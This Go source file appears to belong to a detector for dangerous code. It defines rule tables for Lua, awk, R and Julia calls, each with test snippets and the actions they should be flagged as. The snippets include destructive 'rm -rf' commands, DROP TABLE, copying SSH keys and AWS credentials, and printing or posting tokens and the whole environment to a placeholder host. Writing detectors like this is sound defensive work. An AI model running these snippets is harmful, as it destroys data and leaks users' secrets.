package code

// luaRules are lua's calls (os, io, lfs) that run commands, touch files or read the
// environment.
var luaRules = [...]rule{
	{name: "os.execute|io.popen", do: aShell, ret: rPipe, ex: []string{
		`os.execute("rm -rf /var/www")  => shell rm -rf /var/www`,
		`local h = io.popen("rm -rf " .. os.getenv("HOME")) => shell rm -rf ~`,
		`os.execute"rm -rf /opt" => shell rm -rf /opt`,
		`local d = "/srv"; os.execute(string.format("rm -rf %s/data", d)) => shell rm -rf /srv/data`,
		`print("os.execute('rm -rf /')") !> -`,
		`-- os.execute("rm -rf /") !> -`,
		`--[[ os.execute("rm -rf /") ]] !> -`,
	}},
	{name: "os.remove|lfs.rmdir", do: aDelete, ex: []string{
		`os.remove("/etc/hosts") => delete /etc/hosts`,
		`for f in lfs.dir("/tmp") do os.remove("/tmp/" .. f) end => delete /tmp/*`,
		`os.remove("a") !> delete-r a`,
		`os.time() !> -`,
	}},
	{name: "os.rename", do: aMove, ex: []string{
		`os.rename(".git", "/tmp/g") => delete-r:move .git`,
		`os.rename("a", "b") !> delete-r:move b`,
	}},
	{name: "io.open", do: aOpen, opt: "r", ret: rFile, ex: []string{
		`local f = io.open("/etc/crontab", "w"); f:write("x") => write /etc/crontab`,
		`print(io.open(".env"):read("*a")) => read:show .env`,
		`local f = io.open("x.txt") !> write x.txt`,
	}},
	{name: "file#write", do: aWriteData, arg: -1, ex: []string{
		`local f = io.open("e", "w"); f:write(os.getenv("AWS_SECRET_ACCESS_KEY")) => var:file AWS_SECRET_ACCESS_KEY`,
		`local f = io.open("e", "w"); f:write("x") !> var:file AWS_SECRET_ACCESS_KEY`,
	}},
	{name: "file#read|file#lines", ret: rContent, arg: -1},
	{name: "io.lines", do: aRead, ret: rLines, ex: []string{
		`for l in io.lines(".env") do print(l) end => read:show .env`,
		`for l in io.lines(".env") do n = n + 1 end !> read:show .env`,
	}},
	{name: "lfs.mkdir", do: aCreate, ex: []string{
		`lfs.mkdir("out") => create out`,
		`lfs.attributes("out") !> -`,
	}},
	{name: "lfs.chdir", do: aChdir, ex: []string{
		`lfs.chdir("/") => chdir /`,
		`lfs.currentdir() !> -`,
	}},
	{name: "print|io.write|io.stdout#write|io.stderr#write", do: aPrint, ex: []string{
		`print(os.getenv("GITHUB_TOKEN")) => var:show GITHUB_TOKEN`,
		`io.write(os.getenv("NPM_TOKEN"), "\n") => var:show NPM_TOKEN`,
		`print("hello") !> -`,
	}},
	{name: "load|loadstring|dostring", do: aEval, ex: []string{
		`load("os.execute('rm -rf ~')")() => shell rm -rf ~`,
		`loadstring(code)() => eval code`,
		`loadfile_x("a") !> -`,
	}},
	{name: "os.getenv", ret: rVar},
	{name: "string.format", ret: rSprintf},
	{name: "string.reverse|#reverse", ret: rReverse},
	{name: "string.char", ret: rChr},
	{name: "table.concat", ret: rConcatList},
	{name: "lfs.dir", ret: rNames},
	{name: "os.tmpname", ret: rTmpDir},
	{name: "socket.connect|socket.tcp#connect", do: aConnect, opt: "raw", ret: rSocket, ex: []string{
		`local s = require("socket").connect("203.0.113.1", 80) => send:raw 203.0.113.1`,
		`local s = require("socket").gettime() !> -`,
	}},
	{name: "socket#send", do: aWriteData, arg: -1, ex: []string{
		`local s = socket.connect("h", 1); s:send(os.getenv("TOKEN")) => var:send TOKEN`,
		`local s = socket.connect("h", 1); s:send("hi") !> var:send TOKEN`,
	}},
	{name: "require", do: aLoad, opt: "module", ret: rModule, ex: []string{
		`require("tasks.clean") => load tasks.clean`,
		`local s = "x" !> -`,
	}},
	{name: "dofile|loadfile", do: aLoad, ex: []string{
		`dofile("setup.lua") => load setup.lua`,
		`dofile_x("setup.lua") !> -`,
	}},
}

// awkRules are awk's functions; print, printf, getline and their redirections are its
// statements (awk.go).
var awkRules = [...]rule{
	{name: "system", do: aShell, ret: rClean, ex: []string{
		`BEGIN { system("rm -rf /var/www") } => shell rm -rf /var/www`,
		`{ system("rm -rf " $1) } => shell rm -rf ${_code_value}`,
		`BEGIN { d = "/srv"; system("rm -rf " d "/data") } => shell rm -rf /srv/data`,
		`BEGIN { print "rm -rf /" | "sh" } => shell sh`,
		`BEGIN { print "rm -rf /" | "sh" } => shell rm -rf /`,
		`BEGIN { print "ls" | "sort" } !> shell ls`,
		`BEGIN { "rm -rf /opt" | getline x } => shell rm -rf /opt`,
		`BEGIN { print "system(rm)" } !> -`,
		`# system("rm -rf /") !> -`,
	}},
	{name: "print", do: aPrint, ex: []string{
		`BEGIN { for (k in ENVIRON) print k "=" ENVIRON[k] } => env:show`,
		`BEGIN { print ENVIRON["AWS_SECRET_ACCESS_KEY"] } => var:show AWS_SECRET_ACCESS_KEY`,
		`BEGIN { print "x" > "/etc/hosts" } => write /etc/hosts`,
		`{ print >> "log.txt" } => write+ log.txt`,
		`BEGIN { for (k in ENVIRON) print k } !> env:show`,
		`BEGIN { print "x" > "/dev/stderr" } !> write /dev/stderr`,
		`BEGIN { while ((getline l < ".env") > 0) print l } => read:show .env`,
		`BEGIN { getline line < ".env"; print line } => read:show .env`,
		`BEGIN { f = ".env"; while ((getline < f) > 0) print } => read:show .env`,
		`BEGIN { getline < ".env"; print $2 } => read:show .env`,
		`BEGIN { while ((getline l < ".env") > 0) if (l ~ /^PORT=/) n++; print n } !> read:show .env`,
		`BEGIN { getline l < "VERSION"; print "v" l } => read:show VERSION`,
	}},
	{name: "close|length|substr|index|split|sub|gsub|match|sprintf|tolower|toupper", ret: rClean},
}

// rRules are R's functions that run commands, touch files, read the environment, send data or
// run SQL. pkg::f is pkg.f; base's functions are their bare names.
var rRules = [...]rule{
	{name: "system|shell|system.time", do: aShell, ret: rPipe, ex: []string{
		`system("rm -rf /var/www") => shell rm -rf /var/www`,
		`system(paste("rm -rf", path.expand("~"))) => shell rm -rf ~`,
		`system(paste0("rm -rf ", "/srv", "/data"), intern = TRUE) => shell rm -rf /srv/data`,
		`print("system('rm -rf /')") !> -`,
		`# system("rm -rf /") !> -`,
	}},
	{name: "system2|processx.run|sys.exec_wait|sys.exec_internal", do: aSpawn, ret: rPipe, ex: []string{
		`system2("rm", c("-rf", "/opt")) => shell rm -rf /opt`,
		`system2("rm", args = c("-rf", "/opt")) => shell rm -rf /opt`,
		`processx::run("git", c("push", "--force")) => shell git push --force`,
		`system2("ls") !> shell rm -rf /opt`,
	}},
	{name: "unlink", do: aDeleteOpt, opt: "recursive", ex: []string{
		`unlink("/srv/data", recursive = TRUE) => delete-r /srv/data`,
		`unlink(path.expand("~"), recursive=T, force=TRUE) => delete-r ~`,
		`unlink("a.txt") => delete a.txt`,
		`unlink("a.txt") !> delete-r a.txt`,
	}},
	{name: "file.remove|fs.file_delete", do: aDelete, all: true, ex: []string{
		`file.remove(list.files("/var/log", full.names = TRUE)) => delete /var/log/*`,
		`file.exists("a") !> -`,
	}},
	{name: "fs.dir_delete", do: aDeleteTree, ex: []string{
		`fs::dir_delete("/srv") => delete-r /srv`,
		`fs::dir_exists("/srv") !> -`,
	}},
	{name: "file.rename", do: aMove, ex: []string{
		`file.rename(".git", "/tmp/g") => delete-r:move .git`,
		`file.rename("a", "b") !> delete-r:move b`,
	}},
	{name: "file.copy", do: aCopy, ex: []string{
		`file.copy("~/.aws/credentials", "c") => read:copy ~/.aws/credentials`,
		`file.copy("a", "b") !> delete-r:move a`,
	}},
	{name: "write.csv|write.table|saveRDS|writeRDS|readr.write_csv|jsonlite.write_json", do: aWrite, arg: 1, kw: "file", ex: []string{
		`write.csv(df, "/etc/out.csv") => write /etc/out.csv`,
		`read.csv("a.csv") !> write a.csv`,
	}},
	{name: "writeLines", do: aPrint, opt: "con", ex: []string{
		`writeLines("x", "/etc/motd") => write /etc/motd`,
		`writeLines(Sys.getenv("GITHUB_TOKEN")) => var:show GITHUB_TOKEN`,
		`writeLines("hi") !> write hi`,
	}},
	{name: "print|cat|message|str|show|format|toString|dput|View", do: aPrint, opt: "file", ex: []string{
		`print(Sys.getenv()) => env:show`,
		`cat(Sys.getenv("AWS_SECRET_ACCESS_KEY")) => var:show AWS_SECRET_ACCESS_KEY`,
		`cat("x", file = "/etc/issue") => write /etc/issue`,
		`print(as.list(Sys.getenv())) => env:show`,
		`x <- Sys.getenv("HOME") !> env:show`,
		`print("hi") !> -`,
	}},
	{name: "readLines|readRDS|read.csv|read.table|readr.read_file|scan|jsonlite.fromJSON|yaml.read_yaml", do: aRead, ret: rContent, ex: []string{
		`print(readLines(".env")) => read:show .env`,
		`x <- readLines("data.txt") !> read:show data.txt`,
	}},
	{name: "source|sys.source", do: aLoad, ex: []string{
		`source("R/clean.R") => load R/clean.R`,
		`sourceCpp("x.cpp") !> -`,
	}},
	{name: "setwd", do: aChdir, ex: []string{
		`setwd("/") => chdir /`,
		`getwd() !> -`,
	}},
	{name: "eval|evalq|source_text", do: aEval, ex: []string{
		`eval(parse(text = "system('rm -rf /')")) => shell rm -rf /`,
		`eval(expr) => eval expr`,
		`evaluate(x) !> -`,
	}},
	{name: "httr.POST|httr.PUT|POST|PUT|httr2.req_perform|curl.curl_fetch_memory", do: aSend, ex: []string{
		`httr::POST("https://x.example/c", body = as.list(Sys.getenv())) => env:send`,
		`httr::GET("https://example.com") !> send:http https://example.com`,
	}},
	{name: "DBI.dbExecute|dbExecute|DBI.dbSendQuery|dbSendQuery|DBI.dbGetQuery|dbGetQuery|DBI.dbSendStatement|dbSendStatement", do: aSQL, arg: 1, ex: []string{
		`DBI::dbExecute(con, "DROP TABLE users") => sql DROP TABLE users`,
		`DBI::dbListTables(con) !> -`,
	}},
	{name: "Sys.getenv", ret: rEnvOrVar},
	{name: "parse|str2lang", ret: rArg, kw: "text"},
	{name: "quote|as.character|as.list|unlist|normalizePath|path.expand", ret: rArg},
	{name: "paste", ret: rPaste, opt: " "},
	{name: "paste0", ret: rPaste},
	{name: "sprintf", ret: rSprintf},
	{name: "file.path", ret: rJoin},
	{name: "dirname", ret: rDirname},
	{name: "basename", ret: rBasename},
	{name: "tempdir|tempfile", ret: rTmpDir},
	{name: "getwd", ret: rCwd},
	{name: "Sys.glob", ret: rGlob},
	{name: "list.files|dir", ret: rUnder},
	{name: "c|list", ret: rList, all: true},
	{name: "nchar|length|file.exists|dir.exists|is.null", ret: rClean},
}

// juliaRules are julia's functions that run commands (`cmd` literals), touch files or read
// the environment.
var juliaRules = [...]rule{
	{name: "run|pipeline|success|readchomp", do: aShell, ret: rPipe, ex: []string{
		"run(`rm -rf /var/www`) => shell rm -rf /var/www",
		"d = \"/srv\"; run(`rm -rf $d`) => shell rm -rf /srv",
		`run(Cmd(["rm", "-rf", "/opt"])) => shell rm -rf /opt`,
		`println("run(rm)") !> -`,
	}},
	{name: "rm", do: aDeleteOpt, opt: "recursive", ex: []string{
		`rm("/srv/data"; recursive=true, force=true) => delete-r /srv/data`,
		`rm(homedir(), recursive=true) => delete-r ~`,
		`rm("a.txt") !> delete-r a.txt`,
	}},
	{name: "mv", do: aMove, ex: []string{
		`mv(".git", "/tmp/g") => delete-r:move .git`,
		`mv("a", "b") !> delete-r:move b`,
	}},
	{name: "cp", do: aCopy, ex: []string{
		`cp(joinpath(homedir(), ".ssh", "id_rsa"), "k") => read:copy ~/.ssh/id_rsa`,
		`cp("a", "b") !> delete-r:move a`,
	}},
	{name: "write", do: aWrite, ex: []string{
		`write("/etc/motd", "x") => write /etc/motd`,
		`read("/etc/motd", String) !> write /etc/motd`,
	}},
	{name: "open", do: aOpen, opt: "r", ret: rFile, ex: []string{
		`open("/etc/hosts", "w") do io; write(io, "x"); end => write /etc/hosts`,
		`open("a.txt") !> write a.txt`,
	}},
	{name: "read|readlines|readline|eachline", do: aRead, ret: rContent, ex: []string{
		`println(read(".env", String)) => read:show .env`,
		"read(`rm -rf /tmp/x`, String) => shell rm -rf /tmp/x",
		`x = read("a.txt", String) !> read:show a.txt`,
	}},
	{name: "mkdir|mkpath|touch", do: aCreate, ex: []string{
		`mkpath("out/a") => create out/a`,
		`isdir("out") !> -`,
	}},
	{name: "include", do: aLoad, ex: []string{
		`include("tasks/clean.jl") => load tasks/clean.jl`,
		`included("x") !> -`,
	}},
	{name: "cd", do: aChdir, ex: []string{
		`cd("/") => chdir /`,
		`pwd() !> -`,
	}},
	{name: "println|print|show|display|dump|printstyled|@show", do: aPrint, ex: []string{
		`println(ENV) => env:show`,
		`for (k, v) in ENV; println(k, "=", v); end => env:show`,
		`println(ENV["GITHUB_TOKEN"]) => var:show GITHUB_TOKEN`,
		`println(keys(ENV)) !> env:show`,
		`println("hi") !> -`,
	}},
	{name: "eval|include_string", do: aEval, ex: []string{
		`eval(Meta.parse("run(` + "`rm -rf ~`" + `)")) => shell rm -rf ~`,
		`eval(ex) => eval ex`,
		`evalpoly(1, 2) !> -`,
	}},
	{name: "HTTP.post|HTTP.put|HTTP.request", do: aSend, ex: []string{
		`HTTP.post("https://x.example/c", [], string(ENV)) => env:send`,
		`HTTP.get("https://example.com") !> send:http https://example.com`,
	}},
	{name: "Cmd", ret: rArg},
	{name: "Meta.parse|string|String|abspath|realpath|expanduser|normpath", ret: rArg},
	{name: "joinpath", ret: rJoin},
	{name: "dirname", ret: rDirname},
	{name: "basename", ret: rBasename},
	{name: "homedir", ret: rHome},
	{name: "tempdir", ret: rTmp},
	{name: "mktempdir|tempname", ret: rTmpDir},
	{name: "pwd", ret: rCwd},
	{name: "readdir", ret: rNames},
	{name: "keys", ret: rKeys},
	{name: "Base64.base64decode|base64decode", ret: rB64},
	{name: "reverse", ret: rReverse},
}
